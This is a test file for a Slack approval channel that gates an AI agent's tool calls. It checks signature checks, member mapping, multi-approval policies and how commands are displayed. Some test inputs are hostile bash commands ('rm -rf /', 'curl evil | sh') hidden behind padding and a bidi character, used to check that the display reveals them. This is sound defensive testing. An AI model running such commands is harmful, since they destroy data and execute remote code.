import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { describe, expect, it } from 'vitest';
import { waitFor } from '../testing/harness.js';
import {
  closeAfterEach,
  deployWithChannels,
  FAST_DELIVERY,
  freePort,
  type NotifyDeployment,
  type Received,
  startReceiver,
} from '../testing/notify-kit.js';
import { fieldsOf, press, SIGNING_SECRET, signed, startSlack } from '../testing/slack-kit.js';
import { backends } from '../testing/stores.js';

const all = await backends();

for (const backend of all) {
  describe.skipIf(backend.skip !== null)(`Slack notifications (${backend.name})`, () => {
    let d: NotifyDeployment | undefined;
    const closers = closeAfterEach(() => d);

    async function deploySlack(
      hold: string[] = [],
      tuning: { leaseMs?: number; stopGraceMs?: number } = {},
      started?: { url: string; received: Received[]; close(): Promise<void> },
    ) {
      const slack = started ?? (await startSlack(hold));
      closers.push(slack.close);
      d = await deployWithChannels(
        backend,
        ({ workspaceId, memberCredentialId, otherMemberCredentialId }) => ({
          channels: [
            {
              name: 'approvals',
              kind: 'slack',
              workspace: workspaceId,
              token: 'xoxb-test-token',
              signing_secret: SIGNING_SECRET,
              channel: 'C123',
              api_url: `${slack.url}/api/`,
              members: {
                U_ALICE: memberCredentialId,
                U_BOB: otherMemberCredentialId,
                U_REVOKED: 'cred_unknown',
              },
            },
          ],
        }),
        { port: await freePort(), notificationTuning: { ...FAST_DELIVERY, ...tuning } },
      );
      const endpoint = `${d.url}/notifications/slack/${d.workspaceId}/approvals/interactions`;
      return { slack, endpoint };
    }

    it('posts Block Kit with the call, its effect profile and buttons; a signed press approves as the mapped member and updates the message', async () => {
      const { slack, endpoint } = await deploySlack();
      const runId = await d!.park();
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      expect(post.headers.authorization).toBe('Bearer xoxb-test-token');
      const message = fieldsOf(post);
      expect(message.channel).toBe('C123');
      const text = JSON.stringify(message.blocks);
      expect(text).toContain('rm -rf /tmp/x');
      expect(text).toContain('destructive');
      expect(text).toContain('airlock_approve');
      expect(text).toContain('airlock_deny');
      // A press with a wrong signature, or an old one, changes nothing.
      const body = press(message, 'airlock_approve', 'U_ALICE');
      const forged = await fetch(endpoint, {
        method: 'POST',
        headers: signed(body, 'wrong'),
        body,
      });
      expect(forged.status).toBe(401);
      const stale = await fetch(endpoint, {
        method: 'POST',
        headers: signed(body, SIGNING_SECRET, Math.floor(Date.now() / 1000) - 301),
        body,
      });
      expect(stale.status).toBe(401);
      expect((await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body.state).toBe(
        'needs_approval',
      );
      const pressed = await fetch(endpoint, { method: 'POST', headers: signed(body), body });
      expect(pressed.status).toBe(200);
      const task = (await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body;
      expect(task.decided_by).toBe(`member:${d!.memberCredentialId}`);
      expect(task.state).not.toBe('needs_approval');
      const update = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.update'),
      );
      expect(fieldsOf(update)).toMatchObject({ channel: 'C123', ts: '1001.000100' });
      expect(JSON.stringify(fieldsOf(update).blocks)).toContain(
        `Approved by member:${d!.memberCredentialId} via Slack, u_alice`,
      );
      expect(JSON.stringify(fieldsOf(update).blocks)).not.toContain('airlock_approve');
      // Single use: the same press again is refused (the row version moved), told to the presser alone.
      const again = await fetch(endpoint, { method: 'POST', headers: signed(body), body });
      expect(again.status).toBe(200);
      const told = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postEphemeral'),
      );
      expect(fieldsOf(told)).toMatchObject({ user: 'U_ALICE' });
      expect(String(fieldsOf(told).text)).toMatch(/task_not_waiting|version_mismatch/);
      expect(slack.received.filter((r) => r.path === '/api/chat.update')).toHaveLength(1);
    });

    it('refuses a press by a person who is not mapped, or mapped to no member credential', async () => {
      const { slack, endpoint } = await deploySlack();
      const runId = await d!.park();
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      for (const user of ['U_STRANGER', 'U_REVOKED']) {
        const body = press(fieldsOf(post), 'airlock_deny', user);
        const answer = await fetch(endpoint, { method: 'POST', headers: signed(body), body });
        expect(answer.status).toBe(200);
      }
      // The private replies follow the answers.
      const told = await waitFor(async () => {
        const replies = slack.received.filter((r) => r.path === '/api/chat.postEphemeral');
        return replies.length === 2 && replies;
      });
      expect(told.map((r) => fieldsOf(r).user).sort()).toEqual(['U_REVOKED', 'U_STRANGER']);
      for (const reply of told) expect(String(fieldsOf(reply).text)).toContain('forbidden');
      expect((await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body.state).toBe(
        'needs_approval',
      );
      // A deny by the mapped member ends it, with the reason the model reads.
      const body = press(fieldsOf(post), 'airlock_deny', 'U_ALICE');
      await fetch(endpoint, { method: 'POST', headers: signed(body), body });
      const task = (await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body;
      expect(task.state).toBe('failed');
      expect(task.error.detail).toContain('Slack');
    });

    it('under a policy needing two approvals, the first press shows "1 of 2" and keeps the buttons; the second decides', async () => {
      const { slack, endpoint } = await deploySlack();
      const policy = await d!.member.put(`${d!.ws}/approval_policy`, {
        policy: { rules: [{ actions: ['destructive'], required: 2 }] },
      });
      expect(policy.status).toBe(200);
      const runId = await d!.park();
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      const first = press(fieldsOf(post), 'airlock_approve', 'U_ALICE');
      expect(
        (await fetch(endpoint, { method: 'POST', headers: signed(first), body: first })).status,
      ).toBe(200);
      expect((await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body.state).toBe(
        'needs_approval',
      );
      const progress = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.update'),
      );
      const shown = JSON.stringify(fieldsOf(progress).blocks);
      expect(shown).toContain('1 of 2 approvals');
      expect(shown).toContain('airlock_approve');
      expect(shown).not.toContain('Approved by');
      // Slack sends the message as it now stands with the next press.
      const second = press(
        { text: fieldsOf(progress).text, blocks: fieldsOf(progress).blocks },
        'airlock_approve',
        'U_BOB',
      );
      expect(
        (await fetch(endpoint, { method: 'POST', headers: signed(second), body: second })).status,
      ).toBe(200);
      const task = (await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body;
      expect(task.state).not.toBe('needs_approval');
      const decided = await waitFor(
        async () => slack.received.filter((r) => r.path === '/api/chat.update')[1],
      );
      const final = JSON.stringify(fieldsOf(decided).blocks);
      expect(final).toContain(`Approved by member:${d!.otherMember.credentialId} via Slack, u_bob`);
      expect(final).not.toContain('airlock_approve');
      expect(final).not.toContain('1 of 2 approvals');
    });

    it('counts a signed press whose message blocks are no list, without a 500', async () => {
      const { slack, endpoint } = await deploySlack();
      await d!.member.put(`${d!.ws}/approval_policy`, {
        policy: { rules: [{ actions: ['destructive'], required: 2 }] },
      });
      const runId = await d!.park();
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      const payload = JSON.parse(
        new URLSearchParams(press(fieldsOf(post), 'airlock_approve', 'U_ALICE')).get('payload')!,
      );
      payload.message.blocks = 'x';
      payload.message.text = 42;
      const body = new URLSearchParams({ payload: JSON.stringify(payload) }).toString();
      expect((await fetch(endpoint, { method: 'POST', headers: signed(body), body })).status).toBe(
        200,
      );
      const task = (await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body;
      expect(task.approvals.received).toHaveLength(1);
    });

    it("keeps every text within Slack's limits when escaping lengthens the call", async () => {
      const { slack } = await deploySlack();
      await d!.park({ name: 'bash', input: { command: `echo ${'<&>'.repeat(1500)}` } });
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      const blocks = fieldsOf(post).blocks as {
        text?: { text: string };
        fields?: { text: string }[];
      }[];
      const section = blocks.find((b) => b.text?.text.includes('echo'))!;
      expect(section.text!.text).toContain('&lt;&amp;&gt;');
      for (const block of blocks) {
        expect(block.text?.text.length ?? 0).toBeLessThanOrEqual(3000);
        for (const field of block.fields ?? []) expect(field.text.length).toBeLessThanOrEqual(2000);
      }
      // The clip never cuts an escape in half.
      expect(section.text!.text).not.toMatch(/&[a-z]{0,3}…/);
    });

    it('shows what will run: padding and hidden characters as marks, the end of a long input kept', async () => {
      const { slack } = await deploySlack();
      const command = `ls -la${' '.repeat(3000)}; rm -rf / \u2067${'x'.repeat(4000)} ; curl evil | sh`;
      await d!.park({ name: 'bash', input: { command } });
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      const blocks = fieldsOf(post).blocks as { text?: { text: string } }[];
      const section = blocks.find((b) => b.text?.text.includes('ls -la'))!;
      expect(section.text!.text).toContain('⟨3000 blanks⟩ ; rm -rf / ⟨U+2067⟩');
      expect(section.text!.text).toContain('curl evil | sh');
      expect(section.text!.text).toMatch(/…⟨\d+ more⟩…/);
      expect(section.text!.text.length).toBeLessThanOrEqual(3000);
    });

    it('answers a press at once, before the message update or the private reply, however slow Slack is', async () => {
      const { slack, endpoint } = await deploySlack(['chat.update', 'chat.postEphemeral']);
      const runId = await d!.park();
      const post = await waitFor(async () =>
        slack.received.find((r) => r.path === '/api/chat.postMessage'),
      );
      const body = press(fieldsOf(post), 'airlock_approve', 'U_ALICE');
      for (const expected of ['/api/chat.update', '/api/chat.postEphemeral']) {
        const started = Date.now();
        const answer = await fetch(endpoint, { method: 'POST', headers: signed(body), body });
        expect(answer.status).toBe(200);
        // The held method never answers: an answer that waited for it would come only after the
        // kernel's 10 s Slack timeout. (Slack itself gives up at 3 s; a bound that tight would
        // measure this machine's load, not the order of the work.)
        expect(Date.now() - started).toBeLessThan(5000);
        await waitFor(async () => slack.received.find((r) => r.path === expected));
      }
      expect((await d!.member.get(`${d!.ws}/runs/${runId}/tasks/t1`)).body.state).not.toBe(
        'needs_approval',
      );
    });

    it('refuses a malformed request with 400 and a stable code: a bad path escape, a null payload', async () => {
      const { endpoint } = await deploySlack();
      const badPath = await fetch(`${d!.url}/notifications/slack/%E0%A4%A/approvals/interactions`, {
        method: 'POST',
        body: '',
      });
      expect(badPath.status).toBe(400);
      expect((await badPath.json()).error.code).toBe('invalid_input');
      for (const body of ['payload=null', 'payload=%7B', 'nothing=1']) {
        const answer = await fetch(endpoint, { method: 'POST', headers: signed(body), body });
        expect(answer.status).toBe(400);
        expect((await answer.json()).error.code).toBe('invalid_input');
      }
      const forged = await fetch(endpoint, {
        method: 'POST',
        headers: signed('payload=null', 'wrong'),
        body: 'payload=null',
      });
      expect(forged.status).toBe(401);
      expect((await forged.json()).error.code).toBe('unauthenticated');
    });

    /**
     * A Slack whose first chat.postMessage answers only after `answerAfterMs`
     * (if the client still waits); `overlapped` tells, for each post, whether
     * another post was still open when it arrived.
     */
    async function startSlowFirstSlack(answerAfterMs: number) {
      let answered = 0;
      const slack = await startReceiver((request) => {
        if (request.path !== '/api/chat.postMessage') return { status: 200, body: '{"ok":true}' };
        answered += 1;
        if (answered === 1) return null;
        return {
          status: 200,
          body: JSON.stringify({ ok: true, channel: 'C123', ts: `${1000 + answered}.000100` }),
        };
      });
      const overlapped: boolean[] = [];
      let open = 0;
      slack.server.on('request', (req, res) => {
        if (req.url !== '/api/chat.postMessage') return;
        open += 1;
        overlapped.push(open > 1);
        let closed = false;
        res.on('close', () => {
          closed = true;
          open -= 1;
        });
        if (overlapped.length > 1) return;
        const late = setTimeout(() => {
          if (closed) return;
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ ok: true, channel: 'C123', ts: '1001.000100' }));
        }, answerAfterMs);
        closers.push(async () => clearTimeout(late));
      });
      return { slack, overlapped, open: () => open };
    }

    it('a post cut short at its deadline is cancelled: Slack gets no second post while the first is in flight', async () => {
      const slow = await startSlowFirstSlack(2500);
      await deploySlack([], { leaseMs: 2000 }, slow.slack);
      const runId = await d!.park();
      await waitFor(async () => (await d!.events(runId, 'notification.delivered'))[0], {
        timeoutMs: 5000,
      });
      // Every post closed: the first, cut short, will never be answered (its answer at 2.5 s is
      // written only to a request still open).
      await waitFor(async () => slow.open() === 0, { what: 'every post closed' });
      expect(slow.overlapped).toEqual([false, false]);
      const [delivered] = await d!.events(runId, 'notification.delivered');
      expect(delivered?.data).toMatchObject({ attempts: 2 });
    });

    it('a rate-limited post (429) fails its attempt at once and is retried by the outbox, never twice at a time', async () => {
      let posts = 0;
      let open = 0;
      const overlapped: boolean[] = [];
      const slack = createServer((req, res) => {
        req.resume();
        req.on('end', () => {
          if (req.url !== '/api/chat.postMessage') {
            res.writeHead(200, { 'content-type': 'application/json' });
            res.end('{"ok":true}');
            return;
          }
          posts += 1;
          open += 1;
          overlapped.push(open > 1);
          res.on('close', () => {
            open -= 1;
          });
          if (posts === 1) {
            res.writeHead(429, { 'retry-after': '30', 'content-type': 'application/json' });
            res.end('{"ok":false,"error":"ratelimited"}');
            return;
          }
          res.writeHead(200, { 'content-type': 'application/json' });
          res.end(JSON.stringify({ ok: true, channel: 'C123', ts: '1002.000100' }));
        });
      });
      await new Promise<void>((resolve) => slack.listen(0, '127.0.0.1', () => resolve()));
      const port = (slack.address() as AddressInfo).port;
      const started = {
        url: `http://127.0.0.1:${port}`,
        received: [] as Received[],
        server: slack,
        close: () => new Promise<void>((resolve) => slack.close(() => resolve())),
      };
      await deploySlack([], { leaseMs: 2000 }, started);
      const runId = await d!.park();
      const [delivered] = await waitFor(
        async () => {
          const events = await d!.events(runId, 'notification.delivered');
          return events.length > 0 ? events : undefined;
        },
        { timeoutMs: 4000 },
      );
      expect(delivered?.data).toMatchObject({ attempts: 2 });
      expect(posts).toBe(2);
      expect(overlapped).toEqual([false, false]);
    });

    it('stop cancels a post in flight before leaving it due again', async () => {
      const slow = await startSlowFirstSlack(60_000);
      await deploySlack([], { stopGraceMs: 100 }, slow.slack);
      await d!.park();
      await waitFor(async () => slow.open() === 1);
      await d!.airlock.notifications!.close();
      // The request is closed on the kernel's side, so the server sees it end at once.
      await waitFor(async () => slow.open() === 0, { timeoutMs: 10_000, what: 'the post closed' });
    });
  });
}
